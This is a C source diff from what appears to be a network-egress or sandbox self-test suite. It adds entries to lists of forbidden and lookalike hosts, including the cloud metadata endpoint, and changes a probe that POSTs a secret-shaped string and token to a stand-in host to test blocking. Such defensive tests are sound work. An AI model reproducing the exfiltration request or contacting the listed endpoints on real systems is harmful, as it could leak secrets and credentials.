@@ -65,6 +65,8 @@ static const struct wish too_much[] = {
 	{"all-of-com", "*.com", "", false},
 	{"all-of-co-uk", "*.co.uk", "", false},
 	{"all-of-github-io", "*.github.io", "", false},
+	{"all-of-one", "*.elsewhere-garden.example", "", false},
+	{"all-of-ours", "*.selftest.example", "", false},
 	{"localhost", "localhost", "", false},
 	{"metadata-name", "metadata.google.internal", "", false},
 	{"engine-host", "host.docker.internal", "", false},
@@ -72,7 +74,7 @@ static const struct wish too_much[] = {
 	{"credential", "bound.selftest.example",
 	 "\"paths\":[\"/**\"],\"methods\":[\"GET\",\"POST\"],", false},
 	{"git-upstream", "git.selftest.example", "", false},
-	{"twin", "docs.elsewhere-selftest.example", "", true},
+	{"twin", "docs.harmless-garden.example", "", true},
 };
 
 static const struct wish alike[] = {
@@ -81,7 +83,7 @@ static const struct wish alike[] = {
 	{"punycode", "xn--80ak6aa92e.com", "", false},
 	{"rn", "rnicrosoft.com", "", false},
 	{"digit", "g1thub.com", "", false},
-	{"twin", "docs.elsewhere-selftest.example", "", true},
+	{"twin", "docs.harmless-garden.example", "", true},
 };
 
 /* %B: the bundle's own address. */
@@ -139,11 +141,12 @@ static void try_gone(const struct probe_env *env, const char *id)
 	_cleanup_free_ char *secret = NULL, *request = NULL;
 	pid_t sender;
 
-	probe_token(env, id, "gone", token);
+	probe_token(env, id, "held-gone", token);
 	secret = dlp_shaped_secret(token);
-	request = mem_printf("POST /%s HTTP/1.1\r\nHost: hold.selftest.example\r\n"
-			     "Content-Type: text/plain\r\nContent-Length: %zu\r\n\r\n%s",
-			     "upload", strlen(secret), secret);
+	request = mem_printf("POST /upload HTTP/1.1\r\nHost: hold.selftest.example\r\n"
+			     "Content-Type: text/plain\r\nConnection: close\r\n"
+			     "Content-Length: %zu\r\n\r\n%s %s",
+			     strlen(secret) + 1 + strlen(token), secret, token);
 	sender = fork();
 	if (sender == 0) {
 		static struct probe_reply r;
